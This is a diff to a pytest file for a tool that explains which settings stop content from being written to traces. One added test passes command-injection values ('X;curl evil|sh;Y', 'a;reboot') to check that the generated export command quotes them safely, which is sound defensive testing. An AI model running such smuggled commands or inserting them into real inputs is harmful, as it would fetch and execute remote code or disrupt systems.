@@ -4,15 +4,16 @@ from typing import Any
 
 import pytest
 
-from survey.model.document import Gate, Package
+from survey.model.document import Gate, Package, Unresolved
 from survey.model.vocabulary import Channel, GateKind, Role
 from survey.verdicts.trials import one_by_one
+from survey.view.assigning import assignment_text, command_text, value_part
 from survey.view.effects import effect_message, effect_of, strongest_first
 from survey.view.governing import Rules, rule_messages, still_message, ungated_message
 from survey.view.leaving import leavings
 from survey.view.telling import Telling
 from survey.view.turning_off import off_message, product_message, turning_off
-from survey.view.wording import LANGUAGES, load_wording
+from survey.view.wording import LANGUAGES, Code, load_wording
 from tests.verdicts.builders import ACTIVE, CONTENT, CONTENT_ON, MODE, SOMETHING, result, wrote
 
 OPT_IN = Gate(id="opt_in", kind=GateKind.OPTION, name="capture", values=("true",), default="false")
@@ -95,9 +96,28 @@ def test_what_turns_everything_off() -> None:
     all_of = result(wrote(when=CONTENT_ON), wrote(Role.OUTPUT, hidden, line=11), wrote(Role.OUTPUT, hidden, line=12), gates=GATES)
     assert told(all_of)[0] == "Set all of these: Config(hide=True), TRACE_CONTENT=false. No content is written any more."
     partly = result(wrote(when=CONTENT_ON), wrote(Role.OUTPUT, line=11), wrote(Role.OUTPUT, line=12), gates=GATES)
-    assert told(partly) == ("Set TRACE_CONTENT=false. This is still written then:", [(Role.OUTPUT, 1)], "")
-    assert told(result(wrote())) == ("No setting was found. This is written:", [(Role.INPUT, 0)], "")
+    assert told(partly) == ("No setting does. The most is TRACE_CONTENT=false; this is still written then:", [(Role.OUTPUT, 1)], "")
+    assert told(result(wrote())) == ("No setting does. This is written whatever is set:", [(Role.INPUT, 0)], "")
     assert turning_off(result(gates=GATES)) is None
+
+
+def test_what_could_not_be_followed_is_not_called_off() -> None:
+    lost = (Unresolved(path="p.py", line=3, sink="span_attribute key", reason="key could not be resolved"),)
+    package = result(wrote(when=CONTENT_ON), gates=GATES).model_copy(update={"unresolved": lost})
+    expected = "Set TRACE_CONTENT=false: no content is written any more that was found; 1 place could not be followed."
+    assert told(package) == (expected, [], "")
+
+
+def test_a_switch_that_is_compared_with_nothing_is_given_or_not() -> None:
+    package = result(wrote(when={"not": HOOKED}), gates=(HOOK,))
+    assert told(package)[0] == "Set Kit(hook=) given: no content is written any more."
+
+
+def test_a_setting_to_copy_is_no_other_command() -> None:
+    gate = Gate(id="x", kind=GateKind.ENV, name="X;curl evil|sh;Y", values=("a;reboot",))
+    assert command_text(gate, "a;reboot") == "export 'X;curl evil|sh;Y'='a;reboot'"
+    assert assignment_text(CONTENT, "false") == "TRACE_CONTENT=false"
+    assert value_part(((Gate(id="m", kind=GateKind.ENV, name="M"), "f(x)"),)) == Code("=f(x)")
 
 
 def test_that_the_product_can_be_turned_off_is_said_where_something_remains() -> None:
